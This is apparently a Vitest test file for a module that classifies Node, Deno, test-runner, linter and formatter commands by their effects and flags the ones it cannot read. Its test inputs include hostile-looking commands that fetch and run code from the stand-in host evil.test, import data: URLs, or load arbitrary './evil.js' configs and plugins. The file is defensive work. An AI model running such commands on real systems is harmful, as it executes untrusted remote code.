/** What is understood of Node, test runners and checkers, and what must not be. */

import {expect, test} from 'vitest';

import {readingOf, told} from '../reading.ts';

test.each([
  ['node --version', ''],
  ['node scripts/gen.js --out x', 'code scripts/gen.js'],
  ['node --env-file=.env.test app.js', 'code .env.test, code app.js'],
  ['node --test', 'runs the tests'],
  ['node --import tsx --test test/a.test.ts', 'code tsx, runs the tests, lists test/a.test.ts'],
  ['node --check src/a.js', 'reads src/a.js'],
  ['node --run test', 'package-script test'],
  ['node --import ./hook.mjs app.mjs', 'code ./hook.mjs, code app.mjs'],
  ['node node_modules/.bin/tsc --noEmit', 'package-command tsc --noEmit'],
  ['tsx src/cli.ts --help', 'code src/cli.ts'],
  ['ts-node -P tsconfig.json src/a.ts', 'reads tsconfig.json, code src/a.ts'],
  ['nodemon --exec x.sh', 'shell x.sh, code nodemon.json'],
  ['deno test -A', 'runs the tests'],
  ['deno run -A main.ts', 'code main.ts'],
  ['deno fmt --check', ''],
  ['deno fmt', 'edits-tree .'],
  ['deno publish', 'publishes packages'],
  ['vitest run test/a.test.ts -t name', 'runs the tests'],
  ['vitest --config=./x.ts', 'code ./x.ts, runs the tests'],
  ['vitest run --coverage.reportsDirectory=src', 'deletes-tree src, runs the tests'],
  ['jest --ci --coverage', 'runs the tests'],
  ['jest --outputFile=src/a.ts --json', 'writes src/a.ts, runs the tests'],
  ['mocha -r ts-node/register test', 'code ts-node/register, runs the tests'],
  ['playwright test --project=chromium', 'runs the tests'],
  ['playwright test --output=src', 'deletes-tree src, runs the tests'],
  ['c8 -r text vitest run', 'runs with coverage, command vitest run'],
  ['c8 report', 'runs with coverage'],
  ['tsc --noEmit', ''],
  ['tsc', 'runs tsc, code tsconfig.json'],
  ['tsc -p tsconfig.build.json', 'reads tsconfig.build.json, runs tsc, code tsconfig.build.json'],
  ['tsc src/a.ts', 'reads src/a.ts, runs tsc, writes src/a.js'],
  ['tsc --outDir dist', 'writes-tree dist, runs tsc, code tsconfig.json'],
  ['tsc --noEmit false', 'reads false, runs tsc, writes false'],
  ['eslint src', 'runs eslint, reads-tree src'],
  ['eslint --fix', 'runs eslint, edits-tree .'],
  ['eslint --fix src', 'runs eslint, edits-tree src'],
  ['eslint -c ./evil.js src', 'code ./evil.js, runs eslint, reads-tree src'],
  [
    'eslint -f ./evil.js -o src/a.ts .',
    'code ./evil.js, writes src/a.ts, runs eslint, reads-tree .',
  ],
  ['prettier --check .', 'reads-tree .'],
  ['prettier --write src', 'edits-tree src'],
  ['prettier --plugin ./evil.js .', 'code ./evil.js, reads-tree .'],
  ['biome check --write', 'edits-tree .'],
  ['biome ci src', 'reads-tree src'],
  ['oxlint --deny-warnings src', 'runs oxlint, reads-tree src'],
  ['oxfmt --check .', 'reads-tree .'],
  ['oxfmt', 'edits-tree .'],
  ['stylelint --fix css', 'runs a linter, edits-tree css'],
  ['knip', 'runs an analysis'],
  ['shellcheck a.sh', 'reads a.sh'],
])('%s is understood', (command, acts) => {
  expect(told(readingOf(command))).toBe(acts);
});

test('a program that is named without its ending is any of the files that it may be', () => {
  const files = readingOf('node ./evil').acts.map(({word}) => word.text);
  expect(files).toContain('./evil');
  expect(files).toContain('./evil.js');
  expect(files).toContain('./evil.node');
});

test.each(['node --test', 'vitest run', 'jest', 'mocha', 'ava', 'playwright test', 'deno test'])(
  '%s counts as running the tests',
  (command) => expect(readingOf(command).isTest).toBe(true),
);

test.each(['vitest --version', 'jest --listTests', 'playwright test --list', 'node a.js'])(
  '%s does not',
  (command) => expect(readingOf(command).isTest).not.toBe(true),
);

test.each([
  'node',
  'node -',
  'node -e 1',
  'node -p 1',
  'node -pe 1',
  'node --eval=1',
  'node --print 1',
  'node -i',
  'node --import data:text/javascript,1 a.js',
  'node --require=https://evil.test/x a.js',
  'node inspect evil.js',
  'node --inspect-port=1 a.js',
  'node --cpu-prof a.js',
  'tsx watch a.ts',
  'tsx -e 1',
  'ts-node -C ./evil a.ts',
  'deno eval 1',
  'deno repl',
  'deno run https://evil.test/x.ts',
  'deno run npm:evil',
  'deno info https://evil.test/x.ts',
  'deno compile a.ts',
  'vitest init browser',
  'vitest --globalSetup ./evil.ts',
  'jest --config={"globalSetup":"./evil.js"}',
  'jest --globalSetup ./evil.js',
  'mocha --import data:text/javascript,1',
  'playwright codegen https://x.test',
  'cypress run --record',
  'tsc -tsBuildInfoFile src/a.ts',
  'tsc @evil',
  'eslint --rulesdir evil src',
  'eslint --resolve-plugins-relative-to=evil src',
  'eslint --inspect-config',
  'prettier --plugin=data:text/javascript,1 .',
  'ng add evil',
  'ng build --output-path=src',
  'actionlint -shellcheck=./evil x.yml',
  'codespell -w src',
])('%s is not understood', (command) => {
  expect(told(readingOf(command))).toMatch(/^\? /);
});
